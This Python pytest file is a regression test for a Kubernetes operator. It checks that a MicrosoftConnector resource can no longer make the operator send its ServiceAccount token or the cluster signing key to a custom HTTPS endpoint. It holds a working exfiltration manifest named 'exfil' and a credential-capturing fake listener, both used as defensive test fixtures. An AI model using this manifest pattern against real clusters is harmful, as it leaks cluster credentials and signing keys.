"""A connector cannot make the operator send its own secrets to a host the connector names.

The attack (issue 13, reproduced on 4d2f1c5): a user allowed only connectors and Secrets in one
namespace writes a connector whose workload identity reads a file of the operator's (its
ServiceAccount token; here the control plane's service-account signing key, a file the operator
process can read) and whose `cloud: Custom` points at an HTTPS listener the user runs. MSAL
then posted the file's contents there as `client_assertion`. Now the CRD has no field that
names a file, and an operator not started with `--allow-custom-cloud` sends nothing to a
custom endpoint: the listener accepts 0 connections and reads 0 bytes.
"""

from __future__ import annotations

import json
import socket
import ssl
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import trustme
from private_plane import OperatorControl, make_namespace

from m365inventory.localcluster.access import ClusterAccess

pytestmark = pytest.mark.cluster

# How long an accepted connector gets to reach the listener (main took 0.3 s).
GRACE_SECONDS = 5.0


@dataclass
class Listener:
    """The attacker's HTTPS endpoint, as capable as it needs to be: it answers MSAL's OpenID
    discovery with a token endpoint of its own (so MSAL would go on to post the credential
    there) and records every connection and every byte it is sent."""

    ca: trustme.CA = field(default_factory=trustme.CA)
    connections: int = 0
    received: bytearray = field(default_factory=bytearray)

    def __post_init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        self.port = self._server.getsockname()[1]
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ca.issue_cert("127.0.0.1").configure_cert(self._context)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self.port}"

    def _answer(self, head: bytes) -> bytes:
        path = head.split(b" ", 2)[1].decode(errors="replace") if b" " in head else "/"
        tenant = path.strip("/").split("/", 1)[0]
        if "openid-configuration" in path:
            root = f"{self.url}/{tenant}"
            body = json.dumps(
                {
                    "issuer": f"{root}/v2.0",
                    "token_endpoint": f"{root}/oauth2/v2.0/token",
                    "authorization_endpoint": f"{root}/oauth2/v2.0/authorize",
                    "jwks_uri": f"{root}/discovery/v2.0/keys",
                    "token_endpoint_auth_methods_supported": ["client_secret_post"],
                }
            ).encode()
            status = b"200 OK"
        else:
            body = json.dumps({"error": "invalid_client", "error_description": "x"}).encode()
            status = b"400 Bad Request"
        return (
            b"HTTP/1.1 " + status + b"\r\nContent-Type: application/json\r\n"
            b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n"
        ) + body

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._server.accept()
            except TimeoutError:
                continue
            self.connections += 1
            with conn:
                conn.settimeout(2)
                try:
                    with self._context.wrap_socket(conn, server_side=True) as tls:
                        request = b""
                        while b"\r\n\r\n" not in request and (chunk := tls.recv(65536)):
                            request += chunk
                        head, _, body = request.partition(b"\r\n\r\n")
                        length = next(
                            (
                                int(line.split(b":", 1)[1])
                                for line in head.split(b"\r\n")
                                if line.lower().startswith(b"content-length:")
                            ),
                            0,
                        )
                        while len(body) < length and (chunk := tls.recv(65536)):
                            body += chunk
                        self.received += head + b"\r\n\r\n" + body
                        tls.sendall(self._answer(head))
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.close()


@pytest.fixture
def strict_operator(
    security_kube: ClusterAccess,
    verbose_operator: OperatorControl,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[OperatorControl]:
    """The operator as the chart starts it by default: no --allow-custom-cloud. The package's
    opt-in operator is stopped meanwhile (two operators would both act) and restarted by the
    next test that needs it."""
    verbose_operator.stop()
    control = OperatorControl(
        kube=security_kube,
        workdir=tmp_path_factory.mktemp("strict-operator"),
        allow_custom_cloud=False,
    )
    control.ensure()
    yield control
    control.stop()


def _stolen_file(kube: ClusterAccess) -> Path:
    """A secret file the operator process can read (in a pod: its ServiceAccount token)."""
    if kube.cluster is not None:
        return kube.cluster.certificates.service_account_private_key_path
    return Path("/var/run/secrets/kubernetes.io/serviceaccount/token")


def _attack(*, listener: Listener, namespace: str, credentials: dict[str, Any]) -> list[Any]:
    return [
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "attacker-ca", "namespace": namespace},
            "stringData": {"ca.crt": listener.ca.cert_pem.bytes().decode()},
        },
        {
            "apiVersion": "m365.inventory.dev/v1alpha1",
            "kind": "MicrosoftConnector",
            "metadata": {"name": "exfil", "namespace": namespace},
            "spec": {
                "tenantId": "00000000-0000-0000-0000-0000000000aa",
                "clientId": "00000000-0000-0000-0000-0000000000bb",
                "cloud": "Custom",
                "endpoints": {
                    "authorityHost": listener.url,
                    "graphBaseUrl": f"{listener.url}/v1.0",
                    "caBundleSecretRef": {"name": "attacker-ca", "key": "ca.crt"},
                },
                "credentials": credentials,
            },
        },
    ]


def _apply(kube: ClusterAccess, documents: list[Any], *flags: str) -> Any:
    listing = {"apiVersion": "v1", "kind": "List", "items": documents}
    return kube.kubectl("apply", *flags, "-f", "-", input=json.dumps(listing), check=False)


def _condition(kube: ClusterAccess, namespace: str, kind: str) -> dict[str, Any] | None:
    out = kube.kubectl(
        "-n", namespace, "get", "microsoftconnector", "exfil", "-o", "json", check=False
    )
    if out.returncode != 0:
        return None
    conditions = (json.loads(out.stdout).get("status") or {}).get("conditions") or []
    return next((c for c in conditions if c["type"] == kind), None)


def test_a_connector_cannot_send_an_operator_file_anywhere(
    security_kube: ClusterAccess,
    strict_operator: OperatorControl,
    listener: Listener,
    request: pytest.FixtureRequest,
) -> None:
    namespace = make_namespace(security_kube, f"x-{request.node.name}")
    stolen = _stolen_file(security_kube)
    attack = _attack(
        listener=listener,
        namespace=namespace,
        credentials={"workloadIdentity": {"tokenFile": str(stolen)}},
    )
    # As the attacker writes it: kubectl's strict field validation refuses it …
    strict = _apply(security_kube, attack)
    assert strict.returncode != 0, strict.stdout
    assert "tokenFile" in strict.stderr
    # … and without validation the field is pruned and the required ServiceAccount is missing.
    lax = _apply(security_kube, attack, "--validate=false")
    assert lax.returncode != 0, lax.stdout
    assert "serviceAccountName: Required value" in lax.stderr
    time.sleep(GRACE_SECONDS)
    assert (listener.connections, bytes(listener.received)) == (0, b"")
    assert strict_operator.current is not None
    assert stolen.read_text().strip()[:40] not in strict_operator.current.log_text()


@pytest.mark.parametrize(
    "credentials",
    [
        {"workloadIdentity": {"serviceAccountName": "default"}},
        {"clientSecret": {"secretRef": {"name": "attacker-ca", "key": "ca.crt"}}},
    ],
    ids=["workload-identity", "client-secret"],
)
def test_a_custom_cloud_gets_nothing_without_the_opt_in(
    security_kube: ClusterAccess,
    strict_operator: OperatorControl,
    listener: Listener,
    request: pytest.FixtureRequest,
    credentials: dict[str, Any],
) -> None:
    namespace = make_namespace(security_kube, f"x-{request.node.name}")
    applied = _apply(
        security_kube, _attack(listener=listener, namespace=namespace, credentials=credentials)
    )
    assert applied.returncode == 0, applied.stderr

    deadline = time.monotonic() + 60
    valid = _condition(security_kube, namespace, "CredentialsValid")
    while valid is None and time.monotonic() < deadline:
        time.sleep(0.5)
        valid = _condition(security_kube, namespace, "CredentialsValid")
    assert valid is not None, "the operator never reported on the connector"
    assert (valid["status"], valid["reason"]) == ("False", "CustomCloudNotAllowed")
    assert "--allow-custom-cloud" in valid["message"]
    ready = _condition(security_kube, namespace, "Ready")
    assert ready is not None
    assert ready["status"] == "False"
    events = security_kube.kubectl(
        "-n",
        namespace,
        "get",
        "events",
        "--field-selector",
        "involvedObject.name=exfil",
        "-o",
        "json",
    ).stdout
    assert "SyncFailed" in events
    assert "--allow-custom-cloud" in events
    time.sleep(GRACE_SECONDS)
    assert (listener.connections, bytes(listener.received)) == (0, b"")
